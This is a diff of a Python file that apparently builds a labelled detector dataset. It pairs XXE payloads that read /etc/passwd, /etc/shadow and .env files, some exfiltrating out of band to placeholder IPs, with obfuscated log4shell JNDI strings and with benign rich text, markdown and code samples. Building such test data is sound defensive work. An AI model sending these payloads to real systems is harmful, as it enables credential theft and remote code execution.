-    A(_X + '<!DOCTYPE message [\n <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
-      ' <!ENTITY % ISOamso \'\n  <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n  <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>">\n'
-      '  &#x25;eval;\n  &#x25;error;\n \'>\n %local_dtd;\n]>\n<message>x</message>\n', "xml", 1, whole=True),
-    A('<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo +AFs-+ADwAIQ-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n+ADw-foo+AD4-+ACY-x;+ADw-/foo+AD4-\n',
-      "xml", 1, whole=True),
-    A('<?xml version="1.0"?>\n<!doctype foo [<!entity xxe system "file:///etc/passwd">]>\n<foo>&xxe;</foo>\n', "xml", 1, whole=True),
-    A('<?xml version="1.0"?>\n<!DOCTYPE\n\tfoo\n\t[\n\t<!ENTITY\n\t\txxe\n\t\tSYSTEM\n\t\t"file:///etc/group"\n\t>\n\t]\n>\n<foo>\n&xxe;\n</foo>\n', "xml", 1, whole=True),
+    A(
+        _X
+        + '<!DOCTYPE e [\n <!ENTITY % file SYSTEM "file:///etc/passwd">\n <!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'file:///nonexistent/%file;\'>">\n'
+        " %eval;\n %error;\n]>\n<e>1</e>\n",
+        "xml",
+        1,
+        whole=True,
+    ),
+    A(
+        _X + '<!DOCTYPE message [\n <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
+        ' <!ENTITY % ISOamso \'\n  <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n  <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>">\n'
+        "  &#x25;eval;\n  &#x25;error;\n '>\n %local_dtd;\n]>\n<message>x</message>\n",
+        "xml",
+        1,
+        whole=True,
+    ),
+    A(
+        '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo +AFs-+ADwAIQ-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n+ADw-foo+AD4-+ACY-x;+ADw-/foo+AD4-\n',
+        "xml",
+        1,
+        whole=True,
+    ),
+    A(
+        '<?xml version="1.0"?>\n<!doctype foo [<!entity xxe system "file:///etc/passwd">]>\n<foo>&xxe;</foo>\n',
+        "xml",
+        1,
+        whole=True,
+    ),
+    A(
+        '<?xml version="1.0"?>\n<!DOCTYPE\n\tfoo\n\t[\n\t<!ENTITY\n\t\txxe\n\t\tSYSTEM\n\t\t"file:///etc/group"\n\t>\n\t]\n>\n<foo>\n&xxe;\n</foo>\n',
+        "xml",
+        1,
+        whole=True,
+    ),
     A("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:/etc/passwd'>]><a>&b;</a>", "xml", 1, whole=True),
-    A(_X + '<!DOCTYPE r [\n <!ENTITY % a "<!ENTITY b SYSTEM \'file:///etc/hosts\'>">\n %a;\n]>\n<r>&b;</r>\n', "xml", 1, whole=True),
-    A(_X + '<!DOCTYPE d [\n <!ENTITY % start "<![CDATA[">\n <!ENTITY % file SYSTEM "file:///etc/fstab">\n <!ENTITY % end "]]>">\n'
-      ' <!ENTITY % dtd SYSTEM "http://203.0.113.9/join.dtd">\n %dtd;\n]>\n<d>&all;</d>\n', "xml", 1, whole=True),
+    A(
+        _X + "<!DOCTYPE r [\n <!ENTITY % a \"<!ENTITY b SYSTEM 'file:///etc/hosts'>\">\n %a;\n]>\n<r>&b;</r>\n",
+        "xml",
+        1,
+        whole=True,
+    ),
+    A(
+        _X
+        + '<!DOCTYPE d [\n <!ENTITY % start "<![CDATA[">\n <!ENTITY % file SYSTEM "file:///etc/fstab">\n <!ENTITY % end "]]>">\n'
+        ' <!ENTITY % dtd SYSTEM "http://203.0.113.9/join.dtd">\n %dtd;\n]>\n<d>&all;</d>\n',
+        "xml",
+        1,
+        whole=True,
+    ),
     A(_saml, "form", 1, ep="/saml/acs", fields=[("SAMLResponse", MARK), ("RelayState", "/dashboard")]),
-    A('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><v>&x;</v></r>\n', "json", 1, param="document",
-      jhtml=True, ep="/api/v1/convert"),
-    A('<doc xmlns:a="http://www.w3.org/2001/XInclude">\n <a:include href="file:///etc/shadow" parse="text"><a:fallback>none</a:fallback></a:include>\n</doc>\n',
-      "xml", 1, whole=True, ep="/api/reports/import"),
-    A('<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY % p SYSTEM "http://198.51.100.40/svg.dtd"> %p; ]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&leak;</text></svg>\n',
-      "multipart", 1, mp="file", fname="photo.png", fctype="image/png", field="photo", ep="/api/v2/avatar"),
-    A(_X + '<!DOCTYPE c [<!ENTITY s SYSTEM "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env">]>\n<c><n>&s;</n></c>\n',
-      "xml", 1, whole=True, ep="/xmlrpc.php"),
-    A(_X + '<!DOCTYPE donn\u00e9es [<!ENTITY donn\u00e9e SYSTEM "file:///etc/passwd">]>\n<donn\u00e9es>&donn\u00e9e;</donn\u00e9es>\n', "xml", 1, whole=True),
-    A('<?xml version="1.0"?><!DOCTYPE q [<!ENTITY r SYSTEM "file:///etc/resolv.conf">]><q>&r;</q>', "query", 1, param="xml", ep="/api/legacy/parse"),
-    A('<?xml version="1.0"?>\n<?xml-stylesheet href="http://203.0.113.9/x.xsl" type="text/xsl"?>\n<catalog><item>1</item></catalog>\n', "xml", 1, whole=True,
-      ep="/feeds/import"),
-    A('<?xml version="1.0"?>\n<order xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:orders http://203.0.113.9/orders.xsd">'
-      '<id>7</id></order>\n', "xml", 1, whole=True, ep="/api/v1/orders.xml"),
+    A(
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><v>&x;</v></r>\n',
+        "json",
+        1,
+        param="document",
+        jhtml=True,
+        ep="/api/v1/convert",
+    ),
+    A(
+        '<doc xmlns:a="http://www.w3.org/2001/XInclude">\n <a:include href="file:///etc/shadow" parse="text"><a:fallback>none</a:fallback></a:include>\n</doc>\n',
+        "xml",
+        1,
+        whole=True,
+        ep="/api/reports/import",
+    ),
+    A(
+        '<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY % p SYSTEM "http://198.51.100.40/svg.dtd"> %p; ]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&leak;</text></svg>\n',
+        "multipart",
+        1,
+        mp="file",
+        fname="photo.png",
+        fctype="image/png",
+        field="photo",
+        ep="/api/v2/avatar",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE c [<!ENTITY s SYSTEM "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env">]>\n<c><n>&s;</n></c>\n',
+        "xml",
+        1,
+        whole=True,
+        ep="/xmlrpc.php",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE donn\u00e9es [<!ENTITY donn\u00e9e SYSTEM "file:///etc/passwd">]>\n<donn\u00e9es>&donn\u00e9e;</donn\u00e9es>\n',
+        "xml",
+        1,
+        whole=True,
+    ),
+    A(
+        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY r SYSTEM "file:///etc/resolv.conf">]><q>&r;</q>',
+        "query",
+        1,
+        param="xml",
+        ep="/api/legacy/parse",
+    ),
+    A(
+        '<?xml version="1.0"?>\n<?xml-stylesheet href="http://203.0.113.9/x.xsl" type="text/xsl"?>\n<catalog><item>1</item></catalog>\n',
+        "xml",
+        1,
+        whole=True,
+        ep="/feeds/import",
+    ),
+    A(
+        '<?xml version="1.0"?>\n<order xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:orders http://203.0.113.9/orders.xsd">'
+        "<id>7</id></order>\n",
+        "xml",
+        1,
+        whole=True,
+        ep="/api/v1/orders.xml",
+    ),
     A(_X + '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://[::ffff:cb00:710a]/e.dtd">%a;]>\n<x/>\n', "xml", 1, whole=True),
-    A(_X + '<!DOCTYPE q [<!ENTITY a "' + "A" * 400 + '">]>\n<q>' + "&a;" * 120 + '</q>\n', "xml", 1, whole=True),
-    A('\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE b [<!ENTITY c SYSTEM "file:///proc/self/cmdline">]>\n<b>&c;</b>\n', "xml", 1, whole=True),
+    A(_X + '<!DOCTYPE q [<!ENTITY a "' + "A" * 400 + '">]>\n<q>' + "&a;" * 120 + "</q>\n", "xml", 1, whole=True),
+    A(
+        '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE b [<!ENTITY c SYSTEM "file:///proc/self/cmdline">]>\n<b>&c;</b>\n',
+        "xml",
+        1,
+        whole=True,
+    ),
 ]
 
 # ---------------------------------------------------------------- log4shell
 CTX["log4shell"] = dict(
-    eps=["/", "/login", "/api/v1/search", "/products", "/api/auth/token", "/solr/admin/cores", "/websso/SAML2/SSO", "/api/v2/events",
-         "/jira/secure/Dashboard.jspa", "/status"],
-    params=["q", "username", "search", "id", "action", "lang", "event", "name"])
+    eps=[
+        "/",
+        "/login",
+        "/api/v1/search",
+        "/products",
+        "/api/auth/token",
+        "/solr/admin/cores",
+        "/websso/SAML2/SSO",
+        "/api/v2/events",
+        "/jira/secure/Dashboard.jspa",
+        "/status",
+    ],
+    params=["q", "username", "search", "id", "action", "lang", "event", "name"],
+)
 
 L4J = [
     A("${jndi:ldap://203.0.113.10:1389/a}", "header", hdr="User-Agent"),
@@ -2080,8 +3682,12 @@ L4J = [
     A("${java:version}", "header", hdr="X-Request-ID"),
     A("${jndi:ldap://x${hostName}.L4J.oast.example/a}", "header", hdr="Origin"),
     A("${jndi:ldap://203.0.113.55/ifmod}", "header", hdr="If-Modified-Since"),
-    A("${jndi:rmi://198.51.100.101:1099/Calc}", "json", ep="/graphql",
-      doc={"query": "query Search($term: String!) { search(term: $term) { id title } }", "variables": {"term": MARK}}),
+    A(
+        "${jndi:rmi://198.51.100.101:1099/Calc}",
+        "json",
+        ep="/graphql",
+        doc={"query": "query Search($term: String!) { search(term: $term) { id title } }", "variables": {"term": MARK}},
+    ),
     A("${jndi:ldap://203.0.113.70/ck}", "cookie", ck="remember_user"),
     # ---- hard
     A("${${lower:j}ndi:${lower:l}dap://203.0.113.10/h1}", "header", 1, hdr="User-Agent"),
@@ -2101,16 +3707,34 @@ L4J = [
     A("${${lower:${lower:jndi}}:${lower:rmi}://203.0.113.17/h17}", "multipart", 1, mp="field", param="name"),
     A("${${upper:${::-j}}ndi:dns://h18.oast.example}", "header", 1, hdr="Contact"),
     A("${jndi:${::-l}${::-d}${::-a}${::-p}s://198.51.100.19/h19}", "xml", 1, param="search", ep="/websso/SAML2/SSO"),
-    A("${jndi:ldap://${sys:os.name:-x}.${env:USERDOMAIN:-y}.h20.oast.example/a}", "json_key", 1, ep="/api/v2/events",
-      doc={"events": [{"type": "click", "props": {KMARK: "v"}}]}),
+    A(
+        "${jndi:ldap://${sys:os.name:-x}.${env:USERDOMAIN:-y}.h20.oast.example/a}",
+        "json_key",
+        1,
+        ep="/api/v2/events",
+        doc={"events": [{"type": "click", "props": {KMARK: "v"}}]},
+    ),
     A("${${bundle:application:-j}ndi:ldap://203.0.113.21/h21}", "query_key", 1, kval=""),
     A("$\\{jndi:ldap://198.51.100.22/h22\\}", "header", 1, hdr="X-Forwarded-Proto"),
 ]
 
 ATTACKS = {
-    "java_injection": JAVA, "php_injection": PHP, "code_injection": CODE, "rfi": RFI, "ssrf": SSRF, "rce": RCE, "sqli": SQLI,
-    "nosqli": NOSQLI, "ldapi": LDAPI, "ssti": SSTI, "crlf": CRLF, "mail_injection": MAIL, "xss": XSS, "path_traversal": TRAV,
-    "xxe": XXE, "log4shell": L4J,
+    "java_injection": JAVA,
+    "php_injection": PHP,
+    "code_injection": CODE,
+    "rfi": RFI,
+    "ssrf": SSRF,
+    "rce": RCE,
+    "sqli": SQLI,
+    "nosqli": NOSQLI,
+    "ldapi": LDAPI,
+    "ssti": SSTI,
+    "crlf": CRLF,
+    "mail_injection": MAIL,
+    "xss": XSS,
+    "path_traversal": TRAV,
+    "xxe": XXE,
+    "log4shell": L4J,
 }
 
 
@@ -2122,29 +3746,63 @@ def B(p, pl, **o):
 
 
 SENTENCES = [
-    "Thanks for the quick turnaround on the invoice.", "The new onboarding flow is live for all EU customers.",
-    "Please review the attached draft before Friday.", "We moved the stand-up to 9:30 starting next week.",
-    "Our warehouse in Rotterdam will be closed on the 24th.", "Shipping times are currently 3 to 5 business days.",
-    "I have updated the pricing table with the new tiers.", "The workshop recording is now available to attendees.",
-    "Remember to rotate your API keys every 90 days.", "Customer satisfaction went up 4 points this quarter.",
-    "The venue has step-free access and a lift to every floor.", "Lunch will be provided, vegetarian options included.",
-    "We are hiring two backend engineers in Lisbon.", "The beta will run until the end of January.",
-    "Feel free to reply to this thread with questions.", "Our support hours are 8am to 6pm CET, Monday to Friday.",
-    "The recipe works just as well with oat milk.", "Bring a reusable water bottle, there are refill stations.",
-    "Version 4.2 fixes the export bug reported last month.", "All sessions will be recorded and captioned.",
-    "Parking is free after 6pm in the north garage.", "The quarterly report is attached as a PDF.",
-    "We switched the newsletter to a monthly schedule.", "Tickets are non-refundable but can be transferred.",
-    "Don't forget to water the tomatoes twice a day in July.", "The library extends loan periods during exam season.",
-    "Our team volunteered 120 hours at the food bank this year.", "The maintenance window starts at 02:00 UTC.",
-    "Please use the side entrance during the renovation.", "This release drops support for Internet Explorer 11.",
-    "The community garden plots are assigned by lottery.", "Refunds are processed within 10 working days.",
+    "Thanks for the quick turnaround on the invoice.",
+    "The new onboarding flow is live for all EU customers.",
+    "Please review the attached draft before Friday.",
+    "We moved the stand-up to 9:30 starting next week.",
+    "Our warehouse in Rotterdam will be closed on the 24th.",
+    "Shipping times are currently 3 to 5 business days.",
+    "I have updated the pricing table with the new tiers.",
+    "The workshop recording is now available to attendees.",
+    "Remember to rotate your API keys every 90 days.",
+    "Customer satisfaction went up 4 points this quarter.",
+    "The venue has step-free access and a lift to every floor.",
+    "Lunch will be provided, vegetarian options included.",
+    "We are hiring two backend engineers in Lisbon.",
+    "The beta will run until the end of January.",
+    "Feel free to reply to this thread with questions.",
+    "Our support hours are 8am to 6pm CET, Monday to Friday.",
+    "The recipe works just as well with oat milk.",
+    "Bring a reusable water bottle, there are refill stations.",
+    "Version 4.2 fixes the export bug reported last month.",
+    "All sessions will be recorded and captioned.",
+    "Parking is free after 6pm in the north garage.",
+    "The quarterly report is attached as a PDF.",
+    "We switched the newsletter to a monthly schedule.",
+    "Tickets are non-refundable but can be transferred.",
+    "Don't forget to water the tomatoes twice a day in July.",
+    "The library extends loan periods during exam season.",
+    "Our team volunteered 120 hours at the food bank this year.",
+    "The maintenance window starts at 02:00 UTC.",
+    "Please use the side entrance during the renovation.",
+    "This release drops support for Internet Explorer 11.",
+    "The community garden plots are assigned by lottery.",
+    "Refunds are processed within 10 working days.",
 ]
-TITLES = ["Release notes", "Weekly update", "Event details", "Getting started", "Team news", "Holiday hours", "FAQ",
-          "Product roadmap", "Meeting minutes", "Volunteer schedule", "Travel tips", "Known issues"]
-LINKS = [("https://docs.example.com/setup", "setup guide"), ("https://status.example.net/", "status page"),
-         ("https://www.example.org/events/2026/winter-meetup", "event page"), ("/help/articles/412", "help article"),
-         ("https://blog.example.net/posts/year-in-review", "year in review"), ("mailto:support@example.com", "support@example.com"),
-         ("https://maps.example.com/?q=52.3676,4.9041", "map"), ("https://shop.example.com/collections/winter?sort=price-asc", "winter collection")]
+TITLES = [
+    "Release notes",
+    "Weekly update",
+    "Event details",
+    "Getting started",
+    "Team news",
+    "Holiday hours",
+    "FAQ",
+    "Product roadmap",
+    "Meeting minutes",
+    "Volunteer schedule",
+    "Travel tips",
+    "Known issues",
+]
+LINKS = [
+    ("https://docs.example.com/setup", "setup guide"),
+    ("https://status.example.net/", "status page"),
+    ("https://www.example.org/events/2026/winter-meetup", "event page"),
+    ("/help/articles/412", "help article"),
+    ("https://blog.example.net/posts/year-in-review", "year in review"),
+    ("mailto:support@example.com", "support@example.com"),
+    ("https://maps.example.com/?q=52.3676,4.9041", "map"),
+    ("https://shop.example.com/collections/winter?sort=price-asc", "winter collection"),
+]
 
 
 def gen_richtext():
@@ -2157,7 +3815,7 @@ def gen_richtext():
         elif f == 1:
             w = s2.split()
             k = R.randint(1, len(w) - 2)
-            html = "<p>%s %s <strong>%s</strong> %s</p>" % (s1, " ".join(w[:k]), w[k], " ".join(w[k + 1:]))
+            html = "<p>%s %s <strong>%s</strong> %s</p>" % (s1, " ".join(w[:k]), w[k], " ".join(w[k + 1 :]))
         elif f == 2:
             html = "<h2>%s</h2><p>%s %s</p>" % (R.choice(TITLES), s1, s2)
         elif f == 3:
@@ -2170,68 +3828,102 @@ def gen_richtext():
         elif f == 6:
             html = "<p><em>%s</em></p><ol><li>%s</li><li>%s</li></ol>" % (s1, s2, s3)
         elif f == 7:
-            html = '<p>%s<br>%s</p><p>&nbsp;</p><p>%s</p>' % (s1, s2, s3)
+            html = "<p>%s<br>%s</p><p>&nbsp;</p><p>%s</p>" % (s1, s2, s3)
         else:
-            html = '<p><span style="color: rgb(%d, %d, %d);">%s</span> %s</p>' % (R.randint(0, 200), R.randint(0, 200), R.randint(0, 200), s1, s2)
+            html = '<p><span style="color: rgb(%d, %d, %d);">%s</span> %s</p>' % (
+                R.randint(0, 200),
+                R.randint(0, 200),
+                R.randint(0, 200),
+                s1,
+                s2,
+            )
         N.append(html)
     H += [
-        '<p>Move the <code>&lt;script&gt;</code> tag to the end of <code>&lt;body&gt;</code> so the page renders first.</p>',
-        '<p>To check totals run <code>SELECT customer_id, SUM(amount) FROM payments GROUP BY customer_id;</code> in the read replica.</p>',
+        "<p>Move the <code>&lt;script&gt;</code> tag to the end of <code>&lt;body&gt;</code> so the page renders first.</p>",
+        "<p>To check totals run <code>SELECT customer_id, SUM(amount) FROM payments GROUP BY customer_id;</code> in the read replica.</p>",
         '<p><img src="/uploads/2026/11/team-offsite.jpg" alt="Team photo at the offsite" width="640" height="427"></p><p>What a week!</p>',
         '<p><iframe src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ" width="560" height="315" frameborder="0" allowfullscreen="allowfullscreen"></iframe></p>',
-        '<p>Prices start at &lt; &euro;20 &amp; shipping is free over &euro;50.</p>',
-        '<table><thead><tr><th>Plan</th><th>Seats</th><th>Price</th></tr></thead><tbody><tr><td>Team</td><td>10</td><td>$99</td></tr><tr><td>Business</td><td>50</td><td>$399</td></tr></tbody></table>',
+        "<p>Prices start at &lt; &euro;20 &amp; shipping is free over &euro;50.</p>",
+        "<table><thead><tr><th>Plan</th><th>Seats</th><th>Price</th></tr></thead><tbody><tr><td>Team</td><td>10</td><td>$99</td></tr><tr><td>Business</td><td>50</td><td>$399</td></tr></tbody></table>",
         '<p data-block-id="b7f3c2" class="ql-align-center">Welcome aboard, <span class="mention" data-id="8812" data-value="Priya">@Priya</span>!</p>',
-        '<p>The <code>onerror</code> handler on the image fallback was removed in v3; use the <code>fallbackSrc</code> prop instead.</p>',
+        "<p>The <code>onerror</code> handler on the image fallback was removed in v3; use the <code>fallbackSrc</code> prop instead.</p>",
         '<pre><code class="language-js">document.querySelector("#save").addEventListener("click", save);</code></pre>',
-        '<p>Press <kbd>Ctrl</kbd> + <kbd>Alt</kbd> + <kbd>Del</kbd> and choose <em>Task Manager</em>.</p>',
-        '<p>We tested <code>union</code> types in TypeScript and <code>select</code> menus in the form builder today.</p>',
+        "<p>Press <kbd>Ctrl</kbd> + <kbd>Alt</kbd> + <kbd>Del</kbd> and choose <em>Task Manager</em>.</p>",
+        "<p>We tested <code>union</code> types in TypeScript and <code>select</code> menus in the form builder today.</p>",
         '<p style="text-align: justify;"><span style="font-family: Georgia, serif; font-size: 14pt;">Dear members,</span></p><p>The AGM is on 12 March.</p>',
         '<p>Use the <a href="javascript-guide.html">JavaScript guide</a> for the alert() and confirm() dialogs chapter.</p>',
         '<figure class="image"><img src="https://cdn.example.com/img/chart-q3.png" alt="Q3 revenue chart"><figcaption>Revenue by region</figcaption></figure>',
         '<p>Our drop-off point moved; please drop parcels at the <strong>back door</strong> and select "collected" in the app.</p>',
         '<div class="callout callout-warning"><p><strong>Note:</strong> the <code>../shared</code> folder is mounted read-only.</p></div>',
-        '<p>Escape user input with <code>htmlspecialchars($value, ENT_QUOTES)</code> before echoing it.</p>',
+        "<p>Escape user input with <code>htmlspecialchars($value, ENT_QUOTES)</code> before echoing it.</p>",
         '<ul data-type="taskList"><li data-checked="true">Draft agenda</li><li data-checked="false">Book room</li></ul>',
-        '<p>The <code>&lt;iframe sandbox&gt;</code> attribute blocks scripts unless you add <code>allow-scripts</code>.</p>',
+        "<p>The <code>&lt;iframe sandbox&gt;</code> attribute blocks scripts unless you add <code>allow-scripts</code>.</p>",
         '<p><a href="https://calendar.example.com/event?id=42&amp;tz=Europe%2FBerlin">Add to calendar</a> &middot; <a href="/unsubscribe">Unsubscribe</a></p>',
-        '<h3>Step 1 &ndash; exec summary</h3><p>Executive summary goes here, no more than 200 words.</p>',
+        "<h3>Step 1 &ndash; exec summary</h3><p>Executive summary goes here, no more than 200 words.</p>",
         '<p>Formula for the cell: <code>=IF(A2&gt;100, "high", "low")</code></p>',
-        '<p>We replaced <code>eval()</code> in the calculator with a proper expression parser.</p>',
+        "<p>We replaced <code>eval()</code> in the calculator with a proper expression parser.</p>",
         '<p><svg width="12" height="12" viewBox="0 0 12 12"><circle cx="6" cy="6" r="5" fill="#2e7d32"></circle></svg> All systems operational</p>',
-        '<p>Windows users: the config lives in <code>C:\\Users\\%USERNAME%\\AppData\\Roaming\\Acme\\settings.ini</code>.</p>',
-        '<p>Comment from the review: &quot;1=1 in the WHERE clause is just a placeholder for the query builder&quot;.</p>',
+        "<p>Windows users: the config lives in <code>C:\\Users\\%USERNAME%\\AppData\\Roaming\\Acme\\settings.ini</code>.</p>",
+        "<p>Comment from the review: &quot;1=1 in the WHERE clause is just a placeholder for the query builder&quot;.</p>",
         '<video controls width="480" poster="/media/poster.jpg"><source src="/media/intro.mp4" type="video/mp4"></video>',
-        '<p>Set <code>Content-Security-Policy: default-src \'self\'</code> on the static bucket too.</p>',
+        "<p>Set <code>Content-Security-Policy: default-src 'self'</code> on the static bucket too.</p>",
     ]
     return H, N
 
 
 def gen_markdown():
     H, N = [], []
-    topics = ["Login button misaligned on Safari", "Add dark mode to settings", "Export to CSV drops the last row", "Typo in onboarding email",
-              "Pagination resets after filter change", "Support for Polish locale", "Slow dashboard on large accounts", "Avatar upload fails for HEIC",
-              "Keyboard shortcut conflicts with Firefox", "Timezone shown as UTC in invoices", "Search ignores accented characters",
-              "Webhook retries are not logged", "Broken link in footer", "Mobile menu does not close", "Allow custom SMTP port"]
+    topics = [
+        "Login button misaligned on Safari",
+        "Add dark mode to settings",
+        "Export to CSV drops the last row",
+        "Typo in onboarding email",
+        "Pagination resets after filter change",
+        "Support for Polish locale",
+        "Slow dashboard on large accounts",
+        "Avatar upload fails for HEIC",
+        "Keyboard shortcut conflicts with Firefox",
+        "Timezone shown as UTC in invoices",
+        "Search ignores accented characters",
+        "Webhook retries are not logged",
+        "Broken link in footer",
+        "Mobile menu does not close",
+        "Allow custom SMTP port",
+    ]
     for i, t in enumerate(topics * 4):
-        env = R.choice(["Chrome 131 / macOS 14", "Firefox 133 / Ubuntu 24.04", "Safari 18 / iOS 18.1", "Edge 131 / Windows 11"])
+        env = R.choice(
+            ["Chrome 131 / macOS 14", "Firefox 133 / Ubuntu 24.04", "Safari 18 / iOS 18.1", "Edge 131 / Windows 11"]
+        )
         f = i % 5
         if f == 0:
-            md = "## %s\n\n**Steps to reproduce**\n1. Log in\n2. Open *Settings*\n3. Click **Save**\n\n**Expected:** no error\n**Actual:** nothing happens\n\nEnvironment: %s\n" % (t, env)
+            md = (
+                "## %s\n\n**Steps to reproduce**\n1. Log in\n2. Open *Settings*\n3. Click **Save**\n\n**Expected:** no error\n**Actual:** nothing happens\n\nEnvironment: %s\n"
+                % (t, env)
+            )
         elif f == 1:
-            md = "### %s\n\n- [x] reproduced on staging\n- [ ] add test\n- [ ] update docs\n\ncc @%s\n" % (t, R.choice(["maria", "devon", "kenji", "ops-team", "lea.k"]))
+            md = "### %s\n\n- [x] reproduced on staging\n- [ ] add test\n- [ ] update docs\n\ncc @%s\n" % (
+                t,
+                R.choice(["maria", "devon", "kenji", "ops-team", "lea.k"]),
+            )
         elif f == 2:
             md = "> %s\n\nAgreed. %s\n\n_Edited: fixed typo_\n" % (R.choice(SENTENCES), R.choice(SENTENCES))
         elif f == 3:
-            md = "| Field | Value |\n|---|---|\n| Summary | %s |\n| Env | %s |\n| Severity | %s |\n" % (t, env, R.choice(["low", "medium", "high"]))
+            md = "| Field | Value |\n|---|---|\n| Summary | %s |\n| Env | %s |\n| Severity | %s |\n" % (
+                t,
+                env,
+                R.choice(["low", "medium", "high"]),
+            )
         else:
-            md = "# %s\n\nSee ![screenshot](https://uploads.example.com/%s.png) and the [design doc](https://docs.example.com/d/%s).\n" % (t, rand_hex(12), rand_hex(8))
+            md = (
+                "# %s\n\nSee ![screenshot](https://uploads.example.com/%s.png) and the [design doc](https://docs.example.com/d/%s).\n"
+                % (t, rand_hex(12), rand_hex(8))
+            )
         N.append(md)
     H += [
         "## Install\n\n```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```\n\nThen run `acme --version`.\n",
         "To clean up:\n\n```sh\nrm -rf node_modules package-lock.json && npm install\n```\n",
-        "Fixed by escaping the query:\n\n```python\ncur.execute(\"SELECT * FROM users WHERE email = %s\", (email,))\n```\n",
-        "### Repro\n\n```\n$ docker compose exec web cat /etc/os-release\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n```\n",
+        'Fixed by escaping the query:\n\n```python\ncur.execute("SELECT * FROM users WHERE email = %s", (email,))\n```\n',
+        '### Repro\n\n```\n$ docker compose exec web cat /etc/os-release\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n```\n',
         "The template uses `{{ user.name }}` but Jinja escapes it, so `<b>` shows up literally. Expected?\n",
         "Use `../` to go up one level, e.g. `cd ../../shared/config`.\n",
         "```sql\nDROP TABLE IF EXISTS tmp_import;\nCREATE TABLE tmp_import AS SELECT * FROM staging.orders WHERE 1=0;\n```\n\nRun this before the migration.\n",
@@ -2261,42 +3953,71 @@ def gen_markdown():
 
 def gen_code():
     H, N = [], []
-    names = ["total", "parse_date", "slugify", "chunk", "retry", "debounce", "merge_dicts", "to_cents", "is_weekend", "clamp", "median",
-             "flatten", "read_config", "format_bytes", "percent_change", "title_case", "dedupe", "next_business_day", "safe_div", "avg_rating"]
+    names = [
+        "total",
+        "parse_date",
+        "slugify",
+        "chunk",
+        "retry",
+        "debounce",
+        "merge_dicts",
+        "to_cents",
+        "is_weekend",
+        "clamp",
+        "median",
+        "flatten",
+        "read_config",
+        "format_bytes",
+        "percent_change",
+        "title_case",
+        "dedupe",
+        "next_business_day",
+        "safe_div",
+        "avg_rating",
+    ]
     for n in names:
         a, b = R.sample(["items", "value", "text", "rows", "seconds", "limit", "data", "amount", "prices", "ts"], 2)
-        N.append("def %s(%s, %s=None):\n    \"\"\"Helper used by the billing job.\"\"\"\n    if %s is None:\n        return []\n    return [x for x in %s if x]\n" % (n, a, b, a, a))
+        N.append(
+            'def %s(%s, %s=None):\n    """Helper used by the billing job."""\n    if %s is None:\n        return []\n    return [x for x in %s if x]\n'
+            % (n, a, b, a, a)
+        )
         cam = n.split("_")[0] + "".join(w.title() for w in n.split("_")[1:])
-        N.append("export function %s(%s, %s = 0) {\n  if (!%s) return %s;\n  return %s.length > %s ? %s.slice(0, %s) : %s;\n}\n" % (cam, a, b, a, b, a, b, a, b, a))
+        N.append(
+            "export function %s(%s, %s = 0) {\n  if (!%s) return %s;\n  return %s.length > %s ? %s.slice(0, %s) : %s;\n}\n"
+            % (cam, a, b, a, b, a, b, a, b, a)
+        )
     for t in ["Order", "Invoice", "Customer", "Shipment", "Ticket", "Product"]:
-        N.append("type %s struct {\n\tID        int64     `json:\"id\"`\n\tCreatedAt time.Time `json:\"created_at\"`\n\tStatus    string    `json:\"status\"`\n}\n" % t)
+        N.append(
+            'type %s struct {\n\tID        int64     `json:"id"`\n\tCreatedAt time.Time `json:"created_at"`\n\tStatus    string    `json:"status"`\n}\n'
+            % t
+        )
         N.append("public record %sDto(long id, String name, java.time.Instant updatedAt) {}\n" % t)
     H += [
-        "import subprocess\n\nresult = subprocess.run([\"git\", \"rev-parse\", \"HEAD\"], capture_output=True, text=True, check=True)\nprint(result.stdout.strip())\n",
+        'import subprocess\n\nresult = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True)\nprint(result.stdout.strip())\n',
         "SELECT o.id, o.total, c.email\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at >= NOW() - INTERVAL '7 days'\nORDER BY o.total DESC\nLIMIT 20;\n",
         "const { execFile } = require('node:child_process');\nexecFile('ffmpeg', ['-i', input, '-vf', 'scale=640:-1', output], (err) => {\n  if (err) throw err;\n});\n",
-        "#!/usr/bin/env bash\nset -euo pipefail\nfor f in ./exports/*.csv; do\n  gzip -9 \"$f\"\ndone\n",
